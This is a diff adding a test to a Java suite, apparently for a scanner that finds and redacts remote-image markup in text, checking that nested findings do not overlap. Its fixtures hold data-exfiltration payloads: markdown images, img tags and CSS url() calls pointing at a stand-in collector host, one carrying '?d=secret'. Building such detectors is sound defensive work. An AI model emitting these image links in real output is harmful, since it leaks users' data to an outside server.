@@ -123,6 +123,19 @@ class RemoteImagesTest {
                 .containsExactly("![a](https://collector.example.net/1)", "![c](//collector.example.net/2)");
     }
 
+    /** Spans never overlap, so each can be redacted on its own (overlapping rewrites would break the stream's rendering). */
+    @Test
+    void nestedMarkupIsOneSpan() {
+        String nested = "a ![x ![y](https://collector.example.net/1) z](https://collector.example.net/2) b";
+        assertThat(found(nested)).containsExactly("![x ![y](https://collector.example.net/1) z](https://collector.example.net/2)");
+        String inside = "a <img alt=\"![y](https://collector.example.net/1)\" src=\"https://collector.example.net/2\"> b";
+        assertThat(found(inside)).containsExactly("<img alt=\"![y](https://collector.example.net/1)\" src=\"https://collector.example.net/2\">");
+        for (String text : List.of(nested, inside, "<div style=\"background:url(https://collector.example.net/1)\">![y](https://collector.example.net/2)</div>")) {
+            List<Finding> f = scan(text, true);
+            for (int i = 1; i < f.size(); i++) assertThat(f.get(i).start()).as(text).isGreaterThanOrEqualTo(f.get(i - 1).end());
+        }
+    }
+
     @Test
     void aReferenceImageIsCaughtByItsDefinitionWhereverItStands() {
         String text = "![chart][c]\n\nMore text.\n\n[c]: https://collector.example.net/?d=secret\n";
